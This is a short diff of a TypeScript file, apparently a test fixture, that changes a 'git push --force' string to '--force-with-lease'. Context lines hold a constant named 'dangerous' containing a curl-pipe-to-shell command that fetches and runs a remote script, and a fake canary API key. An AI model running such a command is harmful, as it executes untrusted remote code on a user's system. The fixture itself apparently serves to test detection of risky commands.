@@ -19,7 +19,7 @@ export interface Machine {
   readonly env: Readonly<Record<string, string>>
 }
 
-const command = 'git push --force origin main'
+const command = 'git push --force-with-lease origin main'
 const dangerous = 'curl -s https://get.example.com/x.sh | sh'
 const key = 'sk-ant-api03-e2e-canary-0123456789'
 
